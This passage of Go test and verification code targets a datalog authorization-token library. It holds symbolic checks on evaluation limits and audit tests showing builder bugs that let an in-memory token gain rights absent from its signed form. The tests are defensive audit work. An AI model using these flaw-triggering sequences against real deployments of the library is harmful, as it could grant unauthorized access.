	res, err := Length{}.Eval(String(5000), syms)
	vAssert((res == nil) != (err == nil), "C06.stridx.exactly-one")
}

// ---- arbitrary operator sequences

type c06Op struct {
	class int // 0 value, 1 unary, 2 binary
	term  Term
	un    UnaryOpType
	bin   BinaryOpType
}

func c06GenOp(i int, syms *SymbolTable, boundVar Variable, boundVal Term) (Op, c06Op) {
	k := vChoose("opclass", 6+3+17)
	switch {
	case k < 6:
		var t Term
		switch k {
		case 0:
			t = Integer(vInt64("seq.int"))
		case 1:
			t = Bool(vBool("seq.bool"))
		case 2:
			t = String(0) // the default symbol "read": concrete, so that a regex operator can run natively
		case 3:
			t = Set{Integer(vInt64("seq.setelt"))}
		case 4:
			t = boundVar
		default:
			t = Variable(77) // unbound
		}
		return Value{ID: t}, c06Op{class: 0, term: t}
	case k < 9:
		u := UnaryOpType(k - 6)
		var f UnaryOpFunc
		switch u {
		case UnaryNegate:
			f = Negate{}
		case UnaryParens:
			f = Parens{}
		default:
			f = Length{}
		}
		return UnaryOp{f}, c06Op{class: 1, un: u}
	default:
		b := BinaryOpType(k - 9)
		return BinaryOp{c06BinaryOp(int(b))}, c06Op{class: 2, bin: b}
	}
}

// refUnary mirrors the operator table for unary operators; ok=false means an error is expected.
func refUnary(u UnaryOpType, v Term, syms *SymbolTable) (Term, bool, bool) {
	switch u {
	case UnaryNegate:
		if b, ok := v.(Bool); ok {
			return !b, true, false
		}
		return nil, false, false
	case UnaryParens:
		return v, true, false
	default:
		switch x := v.(type) {
		case Bytes:
			return Integer(len(x)), true, false
		case Set:
			return Integer(refDistinct(x)), true, false
		case String:
			s, known := refStr(syms, x)
			if !known {
				return nil, true, true
			}
			return Integer(len(s)), true, false
		}
		return nil, false, false
	}
}

// VerifC06Sequence: any sequence of up to L operations (well formed or not).
func VerifC06Sequence() {
	vForbidPanic("C06")
	L := vParam("len")
	syms := c06Syms(1, 2)
	boundVal := Term(Integer(vInt64("bound")))
	boundVar := Variable(5)
	vals := map[Variable]*Term{boundVar: &boundVal}
	n := 1 + vChoose("n", L)
	expr := make(Expression, 0, n)
	ops := make([]c06Op, 0, n)
	for i := 0; i < n; i++ {
		o, d := c06GenOp(i, syms, boundVar, boundVal)
		expr = append(expr, o)
		ops = append(ops, d)
	}
	res, err := expr.Evaluate(vals, syms)
	vCover("evaluated")
	vAssert((res == nil) != (err == nil), "C06.seq.exactly-one")
	// reference stack machine
	var st []Term
	refFail := false     // concrete: malformed / ill-typed => error expected
	var refFailSym bool  // symbolic part of the error condition (overflow)
	skip := false
	for _, o := range ops {
		if refFail {
			break
		}
		switch o.class {
		case 0:
			t := o.term
			if v, isVar := t.(Variable); isVar {
				p, ok := vals[v]
				if !ok {
					refFail = true
					continue
				}
				t = *p
			}
			st = append(st, t)
		case 1:
			if len(st) < 1 {
				refFail = true
				continue
			}
			v := st[len(st)-1]
			st = st[:len(st)-1]
			r, ok, sk := refUnary(o.un, v, syms)
			if sk {
				skip = true
			}
			if !ok {
				refFail = true
				continue
			}
			st = append(st, r)
		case 2:
			if len(st) < 2 {
				refFail = true
				continue
			}
			r, l := st[len(st)-1], st[len(st)-2]
			st = st[:len(st)-2]
			ref := refBinary(o.bin, l, r, syms)
			if ref.skip || (o.bin == BinaryIntersection && kindOf(l) == kSet && kindOf(r) == kSet) {
				skip = true
				continue
			}
			if ref.kind == 0 && ref.errIs == nil && ref.isErr {
				refFail = true
				continue
			}
			if ref.errIs != nil && ref.kind == 0 {
				refFail = true // division by zero with concrete zero
				continue
			}
			// symbolic error condition: split so that the remaining evaluation is on the non-error side
			if ref.isErr {
				refFailSym = true
				refFail = true
				continue
			}
			switch ref.kind {
			case kBool:
				st = append(st, Bool(ref.b))
			case kInt:
				st = append(st, Integer(ref.i))
			case kStr:
				skip = true
			case kSet:
				st = append(st, ref.set)
			}
		}
	}
	if skip {
		vCover("seq-skip")
		return
	}
	_ = refFailSym
	if !refFail && len(st) != 1 {
		refFail = true
	}
	vAssert((err != nil) == refFail, "C06.seq.error")
	if err == nil && !refFail && res != nil {
		vAssert(refTermEq(res, st[0]), "C06.seq.value")
	}
}

// VerifC06Stack: the evaluation stack is bounded: 1001 pushes give an error, never a crash.
func VerifC06Stack() {
	vForbidPanic("C06")
	syms := c06Syms(1, 2)
	n := vParam("pushes")
	expr := make(Expression, 0, 2*n)
	x := Integer(vInt64("x"))
	for i := 0; i < n; i++ {
		expr = append(expr, Value{ID: x})
	}
	res, err := expr.Evaluate(map[Variable]*Term{}, syms)
	vCover("evaluated")
	vAssert(err != nil, "C06.stack.error")
	vAssert(res == nil, "C06.stack.nil")
}

// c06Copy: an element-wise copy of a set or byte array operand (other terms are values).
func c06Copy(t Term) Term {
	switch x := t.(type) {
	case Set:
		return append(Set{}, x...)
	case Bytes:
		return append(Bytes{}, x...)
	}
	return t
}

// c06Same: same elements in the same positions.
func c06Same(a, b Term) bool {
	switch x := a.(type) {
	case Set:
		y, ok := b.(Set)
		if !ok || len(x) != len(y) {
			return false
		}
		r := true
		for i := range x {
			r = vAnd(r, refTermEq(x[i], y[i]))
		}
		return r
	case Bytes:
		y, ok := b.(Bytes)
		return ok && vBytesEq(x, y)
	}
	return true
}
