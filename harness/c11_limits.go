package datalog

// C11 — evaluation is bounded: limits honoured, no silent truncation, no stranded work.

import (
	"errors"
	"time"
)

// vSlowOp is a user-defined binary operator (the BinaryOpFunc interface is exported). It behaves like
// LessThan; natively it also takes a few milliseconds, so that a short deadline expires while a
// rule is being applied (the interpreter explores that moment through its symbolic timer instead).
type vSlowOp struct{}

func (vSlowOp) Type() BinaryOpType { return BinaryLessThan }
func (vSlowOp) Eval(l, r Term, s *SymbolTable) (Term, error) {
	vSleepMs(30)
	return LessThan{}.Eval(l, r, s)
}

func c11IsLimit(err error) int {
	n := 0
	if errors.Is(err, ErrWorldRunLimitMaxFacts) {
		n++
	}
	if errors.Is(err, ErrWorldRunLimitMaxIterations) {
		n++
	}
	if errors.Is(err, ErrWorldRunLimitTimeout) {
		n++
	}
	return n
}

// c11Chain builds p0(c); p_i(X) <- p_{i-1}(X) for i = 1..d with pairwise distinct names.
func c11Chain(d int, slow bool) c05Prog {
	pg := c05Prog{kind: kInt}
	names := make([]String, d+1)
	for i := range names {
		names[i] = String(vUint64("name"))
		for j := 0; j < i; j++ {
			vAssume(names[i] != names[j])
		}
	}
	c := Integer(vInt64("c"))
	pg.facts = []Fact{{Predicate{Name: names[0], Terms: []Term{c}}}}
	for i := 1; i <= d; i++ {
		r := Rule{
			Head: Predicate{Name: names[i], Terms: []Term{Variable(0)}},
			Body: []Predicate{{Name: names[i-1], Terms: []Term{Variable(0)}}},
		}
		cr := c05Rule{r: r}
		if slow && i == 1 {
			// X < MaxInt64 evaluated by the slow operator
			cr.hasExp = true
			cr.expVar = Variable(0)
			cr.expC = 9223372036854775807
			cr.r.Expressions = []Expression{{Value{ID: Variable(0)}, Value{ID: Integer(cr.expC)}, BinaryOp{vSlowOp{}}}}
			vAssume(int64(c) < cr.expC)
		}
		pg.rules = append(pg.rules, cr)
	}
	// the order in which rules are registered must not matter: also try the reverse dependency order
	if vChoose("rule-order", 2) == 1 {
		for i, j := 0, len(pg.rules)-1; i < j; i, j = i+1, j-1 {
			pg.rules[i], pg.rules[j] = pg.rules[j], pg.rules[i]
		}
		vLabel("rules in reverse dependency order")
	}
	return pg
}

// VerifC11Limits: chain of known depth under symbolic fact/iteration limits and a symbolic deadline.
func VerifC11Limits() {
	vForbidPanic("C11")
	vForbidStranded("C11")
	d := 1 + vChoose("depth", vParam("depth"))
	early := vChoose("deadline", 2)
	dur := 30 * time.Second
	if early == 1 {
		vTimerMode(1)
		dur = 5 * time.Millisecond
		vLabel("deadline may pass at any moment")
	} else {
		vTimerMode(0)
		vLabel("deadline never reached")
	}
	pg := c11Chain(d, early == 1)
	maxFacts := vInt("maxFacts")
	maxIter := vInt("maxIterations")
	vAssume(vAnd(maxFacts >= -2, maxFacts <= 1000))
	vAssume(vAnd(maxIter >= -2, maxIter <= 100))
	w := NewWorld(WithMaxFacts(maxFacts), WithMaxIterations(maxIter), WithMaxDuration(dur))
	for _, f := range pg.facts {
		w.AddFact(f)
	}
	for _, cr := range pg.rules {
		w.AddRule(cr.r)
	}
	err := w.Run(&SymbolTable{})
	vCover("returned")
	res := append([]Fact{}, (*w.Facts())...)
	if err == nil {
		vCover("success")
		// never success without the fixpoint, never success beyond the fact limit
		vAssert(c05Ground(res), "C11.success-ground")
		if c05Ground(res) {
			vAssert(c05Closed(pg, res), "C11.success-is-fixpoint")
		}
		vAssert(len(res) == d+1, "C11.success-complete")
		vAssert(len(res) <= maxFacts, "C11.success-within-fact-limit")
		vAssert(maxIter >= d+1, "C11.success-within-iteration-limit")
	} else {
		vCover("error")
		vAssert(c11IsLimit(err) == 1, "C11.error-is-one-limit-sentinel")
		if early == 0 {
			vAssert(!errors.Is(err, ErrWorldRunLimitTimeout), "C11.no-spurious-timeout")
		}
	}
	if early == 0 {
		// with the deadline out of the picture the outcome is determined by the two limits
		tooFewIter := maxIter < d+1
		tooFewFacts := maxFacts < d+1
		vAssert(vImplies(vAnd(vNot(tooFewIter), maxFacts > d+1), err == nil), "C11.generous-limits-succeed")
		vAssert(vImplies(tooFewFacts, err != nil), "C11.fact-limit-enforced")
		vAssert(vImplies(vAnd(tooFewIter, maxFacts > d+1), vAnd(err != nil, errors.Is(err, ErrWorldRunLimitMaxIterations))), "C11.iteration-limit-enforced")
		vAssert(vImplies(vAnd(tooFewFacts, vNot(tooFewIter)), vAnd(err != nil, errors.Is(err, ErrWorldRunLimitMaxFacts))), "C11.fact-limit-sentinel")
	}
}

// VerifC11Outcomes: every way an evaluation can end (success, expression error, invalid rule) must
// leave no goroutine behind.
func VerifC11Outcomes() {
	vForbidPanic("C11")
	vForbidStranded("C11")
	vTimerMode(0)
	name0, name1 := String(vUint64("n0")), String(vUint64("n1"))
	vAssume(name0 != name1)
	a, b := Integer(vInt64("a")), Integer(vInt64("b"))
	vAssume(a != b)
	w := NewWorld(WithMaxDuration(30 * time.Second))
	w.AddFact(Fact{Predicate{Name: name0, Terms: []Term{a}}})
	w.AddFact(Fact{Predicate{Name: name0, Terms: []Term{b}}})
	var r Rule
	kind := vChoose("outcome", 3)
	switch kind {
	case 0: // plain success
		vLabel("outcome=success")
		r = Rule{Head: Predicate{Name: name1, Terms: []Term{Variable(0)}}, Body: []Predicate{{Name: name0, Terms: []Term{Variable(0)}}}}
	case 1: // expression error on some match: X + k overflows
		vLabel("outcome=expression error")
		k := Integer(vInt64("k"))
		r = Rule{Head: Predicate{Name: name1, Terms: []Term{Variable(0)}}, Body: []Predicate{{Name: name0, Terms: []Term{Variable(0)}}},
			Expressions: []Expression{{Value{ID: Variable(0)}, Value{ID: k}, BinaryOp{Add{}}, Value{ID: Integer(0)}, BinaryOp{LessThan{}}}}}
	default: // head variable missing from the body, two matching facts
		vLabel("outcome=invalid rule")
		r = Rule{Head: Predicate{Name: name1, Terms: []Term{Variable(1)}}, Body: []Predicate{{Name: name0, Terms: []Term{Variable(0)}}}}
	}
	w.AddRule(r)
	err := w.Run(&SymbolTable{})
	vCover("returned")
	switch kind {
	case 0:
		vAssert(err == nil, "C11.outcome-success")
	case 2:
		vAssert(err != nil, "C11.outcome-invalid-rule")
		if err != nil {
			vCover("invalid-rule")
			vAssert(c11IsLimit(err) == 0, "C11.invalid-rule-is-not-a-limit")
		}
	default:
		if err != nil {
			vCover("expr-error")
			vAssert(c11IsLimit(err) == 0, "C11.expression-error-is-not-a-limit")
		}
	}
}

// VerifC11General: the symbolic program family of C05 under symbolic limits and a symbolic deadline.
// Whatever the program, success means the complete fixpoint within the fact limit, and every error is
// exactly one of the three limit sentinels (the family has no failing expressions or invalid rules).
func VerifC11General() {
	vForbidPanic("C11")
	vForbidStranded("C11")
	dur := 30 * time.Second
	if vChoose("deadline", 2) == 1 {
		vTimerMode(1)
		dur = 5 * time.Millisecond
		vLabel("deadline may pass at any moment")
	} else {
		vTimerMode(0)
		vLabel("deadline never reached")
	}
	pg := c05Program()
	maxFacts := vInt("maxFacts")
	maxIter := vInt("maxIterations")
	vAssume(vAnd(maxFacts >= -2, maxFacts <= 1000))
	vAssume(vAnd(maxIter >= -2, maxIter <= 100))
	w := NewWorld(WithMaxFacts(maxFacts), WithMaxIterations(maxIter), WithMaxDuration(dur))
	for _, f := range pg.facts {
		w.AddFact(f)
	}
	for _, cr := range pg.rules {
		w.AddRule(cr.r)
	}
	err := w.Run(&SymbolTable{})
	vCover("returned")
	res := append([]Fact{}, (*w.Facts())...)
	if err == nil {
		vCover("success")
		ground := c05Ground(res)
		vAssert(ground, "C11.general.success-ground")
		if ground {
			vAssert(c05Closed(pg, res), "C11.general.success-is-fixpoint")
		}
		vAssert(len(res) <= maxFacts, "C11.general.success-within-fact-limit")
		vAssert(maxIter >= 1, "C11.general.success-needs-an-iteration")
	} else {
		vCover("error")
		vAssert(c11IsLimit(err) == 1, "C11.general.error-is-one-limit-sentinel")
	}
}
