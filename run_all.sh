#!/bin/sh
# run every registered check (quick by default) and summarise exit codes
tier=${1:-quick}
cd /verif
for c in $(python3 -c "import json; print(' '.join(x['property_id'] for x in json.load(open('MANIFEST.json'))['checks']))"); do
  start=$(date +%s)
  ./gosym/gosym check $c -tier $tier > out/last_$c.log 2>&1
  rc=$?
  end=$(date +%s)
  echo "$c exit=$rc $((end-start))s $(grep -c '^KNOWN-FINDING' out/last_$c.log) known $(tail -1 out/last_$c.log | cut -c1-120)"
done
