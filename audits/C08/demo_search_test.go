package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	mrand "math/rand"
	"strings"
	"sync"
	"testing"

	biscuit "github.com/biscuit-auth/biscuit-go/v2"
)

// Random interleavings, "proper use" only: every builder is built once, every block is
// appended (possibly several times) only to the token whose CreateBlock made its builder.
type c08tok struct {
	tok      *biscuit.Biscuit
	snap     string
	expected []string // printed facts/checks each caller put in, in block order
	sealed   bool
}

type c08bb struct {
	parent *c08tok
	bb     biscuit.BlockBuilder
	put    []string
	built  *biscuit.Block
}

func TestC08_Search_RandomFamilies(t *testing.T) {
	for seed := int64(1); seed <= 12; seed++ {
		seed := seed
		t.Run(fmt.Sprint(seed), func(t *testing.T) {
			r := mrand.New(mrand.NewSource(seed))
			pub, priv, _ := ed25519.GenerateKey(rand.Reader)
			names := []string{"file1", "file2", "alpha", "beta", "read", "write", "gamma", "delta", "resource", "zz"}
			pick := func() string { return names[r.Intn(len(names))] }

			b := biscuit.NewBuilder(priv)
			var put []string
			for i := 0; i < 1+r.Intn(3); i++ {
				f := c08fact("right", pick(), pick())
				if b.AddAuthorityFact(f) == nil {
					put = append(put, f.String())
				}
			}
			root, err := b.Build()
			if err != nil {
				t.Fatal(err)
			}
			toks := []*c08tok{{tok: root, snap: c08snap(t, root, pub), expected: put}}
			var bbs []*c08bb

			checkAll := func(op string) {
				for i, tk := range toks {
					now := c08snap(t, tk.tok, pub)
					if now != tk.snap {
						t.Fatalf("seed %d: token %d changed after %s:\n%s", seed, i, op, c08diff(tk.snap, now))
					}
				}
			}
			addTok := func(tok *biscuit.Biscuit, expected []string, sealed bool) {
				s := tok.String()
				for _, e := range expected {
					if !strings.Contains(s, e) {
						t.Fatalf("seed %d: new token lacks %q:\n%s", seed, e, s)
					}
				}
				toks = append(toks, &c08tok{tok: tok, snap: c08snap(t, tok, pub), expected: expected, sealed: sealed})
			}

			for step := 0; step < 40; step++ {
				var op string
				switch r.Intn(9) {
				case 0: // create block
					p := toks[r.Intn(len(toks))]
					bbs = append(bbs, &c08bb{parent: p, bb: p.tok.CreateBlock()})
					op = "CreateBlock"
				case 1, 2: // add to builder
					if len(bbs) == 0 {
						continue
					}
					x := bbs[r.Intn(len(bbs))]
					if x.built != nil {
						continue
					}
					switch r.Intn(3) {
					case 0:
						f := c08fact(pick(), pick())
						if x.bb.AddFact(f) == nil {
							x.put = append(x.put, f.String())
						}
					case 1:
						n, a := pick(), pick()
						_ = x.bb.AddCheck(c08checkHas(n, a))
						x.put = append(x.put, fmt.Sprintf("check if %s(%q)", n, a))
					case 2:
						n, a := pick(), pick()
						_ = x.bb.AddRule(biscuit.Rule{
							Head: biscuit.Predicate{Name: n, IDs: []biscuit.Term{biscuit.Variable("v"), biscuit.String(a)}},
							Body: []biscuit.Predicate{{Name: "resource", IDs: []biscuit.Term{biscuit.Variable("v")}}},
						})
						x.put = append(x.put, fmt.Sprintf("%s($v, %q) <- resource($v)", n, a))
					}
					op = "add-to-builder"
				case 3: // build
					if len(bbs) == 0 {
						continue
					}
					x := bbs[r.Intn(len(bbs))]
					if x.built != nil {
						continue
					}
					x.built = x.bb.Build()
					op = "build-block"
				case 4: // append
					if len(bbs) == 0 {
						continue
					}
					x := bbs[r.Intn(len(bbs))]
					if x.built == nil || x.parent.sealed {
						continue
					}
					nt, err := x.parent.tok.Append(rand.Reader, x.built)
					if err != nil {
						t.Fatalf("append: %v", err)
					}
					addTok(nt, append(append([]string{}, x.parent.expected...), x.put...), false)
					op = "append"
				case 5: // seal
					p := toks[r.Intn(len(toks))]
					if p.sealed {
						continue
					}
					nt, err := p.tok.Seal(rand.Reader)
					if err != nil {
						t.Fatalf("seal: %v", err)
					}
					addTok(nt, p.expected, true)
					op = "seal"
				case 6: // round trip
					p := toks[r.Intn(len(toks))]
					ser, _ := p.tok.Serialize()
					nt, err := biscuit.Unmarshal(ser)
					if err != nil {
						t.Fatalf("unmarshal: %v", err)
					}
					addTok(nt, p.expected, p.sealed)
					op = "roundtrip"
				case 7:
					p := toks[r.Intn(len(toks))]
					_, _ = p.tok.GetBlockID(c08fact(pick(), pick(), "brand-new-"+pick()))
					op = "GetBlockID"
				case 8:
					p := toks[r.Intn(len(toks))]
					a, err := p.tok.Authorizer(pub, c08limits)
					if err != nil {
						t.Fatalf("authorizer: %v", err)
					}
					a.AddFact(c08fact("resource", "new-"+pick()))
					a.AddRule(biscuit.Rule{
						Head: biscuit.Predicate{Name: "fresh", IDs: []biscuit.Term{biscuit.Variable("x")}},
						Body: []biscuit.Predicate{{Name: "resource", IDs: []biscuit.Term{biscuit.Variable("x")}}},
					})
					a.AddPolicy(biscuit.DefaultAllowPolicy)
					_ = a.Authorize()
					_ = a.PrintWorld()
					_, _ = a.Query(biscuit.Rule{
						Head: biscuit.Predicate{Name: "q", IDs: []biscuit.Term{biscuit.Variable("x")}},
						Body: []biscuit.Predicate{{Name: "fresh", IDs: []biscuit.Term{biscuit.Variable("x")}}},
					})
					op = "authorize"
				}
				if len(toks) > 14 {
					toks = toks[:14]
				}
				checkAll(op)
			}
		})
	}
}

// Concurrent use of one shared parent and its children; run with -race.
func TestC08_Search_ConcurrentFamily(t *testing.T) {
	pub, parent := c08parent(t)
	bb := parent.CreateBlock()
	_ = bb.AddCheck(c08checkHas("resource", "file1"))
	child, err := parent.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	before := []string{c08snap(t, parent, pub), c08snap(t, child, pub)}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		g := g
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 15; i++ {
				for _, tk := range []*biscuit.Biscuit{parent, child} {
					switch (g + i) % 6 {
					case 0:
						b := tk.CreateBlock()
						_ = b.AddFact(c08fact("tag", fmt.Sprintf("g%d-%d", g, i)))
						nt, err := tk.Append(rand.Reader, b.Build())
						if err != nil {
							t.Error(err)
							return
						}
						if !strings.Contains(nt.String(), fmt.Sprintf(`tag("g%d-%d")`, g, i)) {
							t.Errorf("wrong content: %s", nt.String())
						}
					case 1:
						_, _ = tk.Seal(rand.Reader)
					case 2:
						_, _ = tk.Serialize()
						_ = tk.String()
					case 3:
						_ = c08authorize(tk, pub, []biscuit.Fact{c08fact("resource", "file1")}, biscuit.Predicate{Name: "resource", IDs: []biscuit.Term{biscuit.String("file1")}})
					case 4:
						_, _ = tk.GetBlockID(c08fact("right", "file1", fmt.Sprintf("x%d", i)))
						_ = tk.RevocationIds()
					case 5:
						ser, _ := tk.Serialize()
						_, _ = biscuit.Unmarshal(ser)
					}
				}
			}
		}()
	}
	wg.Wait()
	after := []string{c08snap(t, parent, pub), c08snap(t, child, pub)}
	for i := range before {
		if before[i] != after[i] {
			t.Errorf("token %d changed under concurrent use:\n%s", i, c08diff(before[i], after[i]))
		}
	}
}
