// C08 audit demo tests. Package directory: repository root (package biscuit_test,
// file next to biscuit.go). Public API only.
//
//	export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
//	go test -race -run 'TestC08' -count=1 .
//
// Every TestC08_* test below FAILS on the unchanged library exactly when the
// described violation is present.
package biscuit_test

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"

	biscuit "github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

func c08fact(name string, ids ...string) biscuit.Fact {
	terms := make([]biscuit.Term, len(ids))
	for i, s := range ids {
		terms[i] = biscuit.String(s)
	}
	return biscuit.Fact{Predicate: biscuit.Predicate{Name: name, IDs: terms}}
}

func c08checkHas(name string, ids ...string) biscuit.Check {
	terms := make([]biscuit.Term, len(ids))
	for i, s := range ids {
		terms[i] = biscuit.String(s)
	}
	return biscuit.Check{Queries: []biscuit.Rule{{
		Head: biscuit.Predicate{Name: "query"}, // "query" is a default symbol, as produced by the text parser
		Body: []biscuit.Predicate{{Name: name, IDs: terms}},
	}}}
}

var c08limits = biscuit.WithWorldOptions(datalog.WithMaxDuration(30 * time.Second))

// c08authorize: authorizer facts + "allow if <query>" policy; returns the outcome as text.
func c08authorize(tok *biscuit.Biscuit, pub ed25519.PublicKey, ambient []biscuit.Fact, allowIf biscuit.Predicate) string {
	a, err := tok.Authorizer(pub, c08limits)
	if err != nil {
		return "authorizer: " + err.Error()
	}
	for _, f := range ambient {
		a.AddFact(f)
	}
	a.AddPolicy(biscuit.Policy{Kind: biscuit.PolicyKindAllow, Queries: []biscuit.Rule{{
		Head: biscuit.Predicate{Name: "allow"},
		Body: []biscuit.Predicate{allowIf},
	}}})
	if err := a.Authorize(); err != nil {
		return "deny: " + err.Error()
	}
	return "allow"
}

// c08snap is the observation of property C08: printed form, wire form, printed form
// of the re-parsed wire form, revocation ids and a fixed panel of authorization outcomes.
func c08snap(t *testing.T, tok *biscuit.Biscuit, pub ed25519.PublicKey) string {
	t.Helper()
	var sb strings.Builder
	sb.WriteString("STRING:" + tok.String() + "\n")
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatalf("serialize: %v", err)
	}
	sb.WriteString("WIRE:" + hex.EncodeToString(ser) + "\n")
	re, err := biscuit.Unmarshal(ser)
	if err != nil {
		sb.WriteString("REPARSE-ERR:" + err.Error() + "\n")
	} else {
		sb.WriteString("REPARSED:" + re.String() + "\n")
	}
	for _, id := range tok.RevocationIds() {
		sb.WriteString("REV:" + hex.EncodeToString(id) + "\n")
	}
	for _, res := range []string{"file1", "file2", "alpha", "beta"} {
		for _, op := range []string{"read", "write"} {
			amb := []biscuit.Fact{c08fact("resource", res), c08fact("operation", op)}
			out := c08authorize(tok, pub, amb, biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.String(res), biscuit.String(op)}})
			sb.WriteString(fmt.Sprintf("AUTH right(%s,%s): %s\n", res, op, out))
			out = c08authorize(tok, pub, amb, biscuit.Predicate{Name: "resource", IDs: []biscuit.Term{biscuit.String(res)}})
			sb.WriteString(fmt.Sprintf("AUTH resource(%s)/%s: %s\n", res, op, out))
		}
	}
	return sb.String()
}

func c08diff(a, b string) string {
	la, lb := strings.Split(a, "\n"), strings.Split(b, "\n")
	var out []string
	for i := 0; i < len(la) || i < len(lb); i++ {
		var x, y string
		if i < len(la) {
			x = la[i]
		}
		if i < len(lb) {
			y = lb[i]
		}
		if x != y {
			if len(x) > 300 {
				x = x[:300] + "..."
			}
			if len(y) > 300 {
				y = y[:300] + "..."
			}
			out = append(out, "  - "+x+"\n  + "+y)
		}
	}
	return strings.Join(out, "\n")
}

// ---------------------------------------------------------------------------------
// F1: Builder.Build hands the builder's own *FactSet to the token (builder.go:135, `facts: b.facts`).
// Adding a fact to the builder afterwards adds it to the already built (and signed)
// token, and to every token derived from it (Append/Seal copy the Block struct
// shallowly, biscuit.go:170-178, 257-264).
// ---------------------------------------------------------------------------------
func TestC08_F1_BuilderAddAfterBuildMutatesBuiltToken(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	if err := b.AddAuthorityFact(c08fact("right", "file1", "read")); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := tok.CreateBlock()
	_ = bb.AddCheck(c08checkHas("resource", "file1"))
	child, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := child.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}

	before := []string{c08snap(t, tok, pub), c08snap(t, child, pub), c08snap(t, sealed, pub)}

	// an operation on the *builder*, after the token has been built
	if err := b.AddAuthorityFact(c08fact("right", "file2", "write")); err != nil {
		t.Fatal(err)
	}

	for i, tk := range []*biscuit.Biscuit{tok, child, sealed} {
		after := c08snap(t, tk, pub)
		if after != before[i] {
			t.Errorf("token #%d changed after Builder.AddAuthorityFact on the builder it came from:\n%s", i, c08diff(before[i], after))
		}
	}

	// the in-memory token now grants something its signed wire form does not
	amb := []biscuit.Fact{c08fact("resource", "file1"), c08fact("operation", "write")}
	q := biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.String("file1"), biscuit.String("write")}}
	mem := c08authorize(tok, pub, amb, q)
	ser, _ := tok.Serialize()
	re, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	wire := c08authorize(re, pub, amb, q)
	if mem != wire {
		t.Errorf("in-memory token and its own serialized form disagree on right(file1,write): memory=%q wire=%q", mem, wire)
	}
}

// ---------------------------------------------------------------------------------
// F2: Builder.Build truncates the builder's symbol table (SplitOff, builder.go:134)
// but keeps facts/rules/checks. A second Build (also: a retry after a failed Build)
// yields a token whose authority block has lost its symbols.
// ---------------------------------------------------------------------------------
func TestC08_F2_BuilderBuildTwiceSecondTokenLosesSymbols(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	_ = b.AddAuthorityCheck(c08checkHas("resource", "file1"))
	t1, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	t2, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	s1, s2 := c08snap(t, t1, pub), c08snap(t, t2, pub)
	// the two tokens have different keys; compare content only
	amb := []biscuit.Fact{c08fact("resource", "file1"), c08fact("operation", "read")}
	q := biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.String("file1"), biscuit.String("read")}}
	a1, a2 := c08authorize(t1, pub, amb, q), c08authorize(t2, pub, amb, q)
	if a1 != a2 {
		t.Errorf("same builder, same content, different authorization: first=%q second=%q", a1, a2)
	}
	if strings.Contains(s2, "invalid symbol") && !strings.Contains(s1, "invalid symbol") {
		t.Errorf("second token built from the same builder has dangling symbols:\n%s", t2.String())
	}
}

type c08failOnce struct{ failed bool }

func (r *c08failOnce) Read(p []byte) (int, error) {
	if !r.failed {
		r.failed = true
		return 0, fmt.Errorf("transient entropy failure")
	}
	return rand.Read(p)
}

func TestC08_F2b_BuilderRetryAfterFailedBuild(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv, biscuit.WithRNG(&c08failOnce{}))
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	if _, err := b.Build(); err == nil {
		t.Fatal("expected the first Build to fail")
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	amb := []biscuit.Fact{c08fact("resource", "file1"), c08fact("operation", "read")}
	q := biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.String("file1"), biscuit.String("read")}}
	if out := c08authorize(tok, pub, amb, q); out != "allow" {
		t.Errorf("token built on retry after a failed Build does not contain right(file1,read): %s\n%s", out, tok.String())
	}
}

// ---------------------------------------------------------------------------------
// F3: blockBuilder.Build replaces b.symbols by the split-off tail (builder.go:291)
// while symbolsStart keeps its value. The builder is unusable afterwards: a second
// Build panics or produces a block with a wrong symbol list; facts added after the
// first Build get colliding symbol indexes.
// ---------------------------------------------------------------------------------
func c08parent(t *testing.T) (ed25519.PublicKey, *biscuit.Biscuit) {
	t.Helper()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := biscuit.NewBuilder(priv)
	_ = b.AddAuthorityFact(c08fact("right", "file1", "read"))
	_ = b.AddAuthorityFact(c08fact("right", "file2", "read"))
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return pub, tok
}

func TestC08_F3a_BlockBuilderBuildTwicePanics(t *testing.T) {
	_, parent := c08parent(t)
	bb := parent.CreateBlock()
	_ = bb.AddFact(c08fact("right", "alpha")) // one new symbol; the parent has two
	_ = bb.Build()
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("second BlockBuilder.Build panicked: %v", r)
		}
	}()
	_ = bb.Build()
}

func TestC08_F3b_BlockBuilderBuildTwiceDifferentBlock(t *testing.T) {
	pub, parent := c08parent(t)
	bb := parent.CreateBlock()
	_ = bb.AddFact(c08fact("tag", "alpha")) // new symbols: tag, alpha
	_ = bb.AddFact(c08fact("tag", "beta"))  // beta
	blk1 := bb.Build()
